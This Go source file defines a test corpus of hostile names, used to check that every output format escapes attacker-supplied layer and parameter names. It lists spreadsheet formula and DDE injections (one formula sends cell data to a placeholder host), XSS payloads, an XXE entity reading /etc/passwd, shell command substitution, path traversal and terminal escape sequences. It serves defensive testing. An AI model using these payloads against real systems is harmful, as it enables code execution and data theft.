// Package hostile holds the names that an attacker would give to layers, networks, parameters and sources: for tests of every form of
// output, which all try the same list (docs/security.md). Names that the project's own files may have follow a grammar that refuses
// nearly all of them; in a results file received from somebody else they stand all the same.
//
//	for _, n := range hostile.Names() {
//		t.Run(n.What, func(t *testing.T) { ... n.Text ... })
//	}
//
// A name that ran as a script would set the page's title to Mark, one that ran as a command or became a path would leave a
// file of that name: tests look for both.
package hostile

import "strings"

// Mark is what an injected script sets as the page's title, and what no file that is written may be called.
const Mark = "PWNED"

// Name is a text and what it attacks.
type Name struct{ What, Text string }

// Names lists them.
func Names() []Name {
	const js = "document.title='" + Mark + "'"
	return []Name{
		{"formula", `=HYPERLINK("http://example.invalid/?x="&A1,"click")`}, {"program", `=cmd|' /C calc'!A0`},
		{"plus", `+1+cmd|' /C calc'!A0`}, {"minus", `-2+3+cmd|' /C calc'!A0`}, {"at", `@SUM(1+1)*cmd|' /C calc'!A0`},
		{"tab before", "\t=1+1"}, {"return before", "\r=1+1"}, {"feed before", "\n=1+1"}, {"blanks before", "  =1+1"},
		{"no-break space before", "\u00a0=1+1"}, {"byte order mark before", "\ufeff=1+1"}, {"full-width", "＝1+1"},
		{"behind a semicolon", "x;=1+1;y"}, {"behind a tab", "x\t=1+1\ty"}, {"behind a feed", "x\n=1+1\ny"}, {"quotes", `",=1+1,"`},
		{"script", "</script><script>" + js + "</script>"}, {"comment", "<!--<script>" + js}, {"image", `<img src=x onerror="` + js + `">`},
		{"attribute", `" onmouseover="` + js + `" autofocus onfocus="` + js}, {"attribute, single", "' onmouseover='" + js + "' x='"},
		{"way out", "</title></style></textarea></noscript></svg></select><script>" + js + "</script>"},
		{"line separator", "a\u2028" + js + "//\u2029"}, {"address", "javascript:" + js}, {"template", "{{.Sweep}}${" + js + "}`"},
		{"string", `\";` + js + ";//"}, {"section", "]]><script>" + js + "</script>"}, {"entity", "&lt;&#x3C;script&#x3E;"},
		{"entities", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`}, {"chart", `</c:v></c:tx><c:scaling/><c:logBase val="10"/>`},
		{"prototype", "__proto__"}, {"terminal", "\x1b]0;" + Mark + "\x07\x1b[2J\x1b[31mred\u009b31m\b\x7f"}, {"paste", "x\x1b[201~\ntouch " + Mark + "\n"},
		{"nothing", "a\x00b"}, {"no text", "a\xffb\xc2"}, {"no characters", "\ufffe\uffff"}, {"turned", "\u202egpj.exe\u2066"},
		{"path", "../../../" + Mark}, {"root", "/" + Mark}, {"other path", `..\..\` + Mark}, {"shell", "$(touch " + Mark + ")`touch " + Mark + "`;touch " + Mark},
		{"shell, quoted", "'; touch " + Mark + "; '"}, {"directive", "x\n#SBATCH --wrap=" + Mark}, {"sheet", "Front'!A1"}, {"format", "%s%d%n&A&P"}, {"wildcards", "*?~"},
		{"escape", "_x0041__x003D_1"}, {"long", strings.Repeat("L", 40_000)}, {"long formula", "=" + strings.Repeat("A", 40_000)}, {"long, wide", strings.Repeat("😀", 20_000)},
	}
}
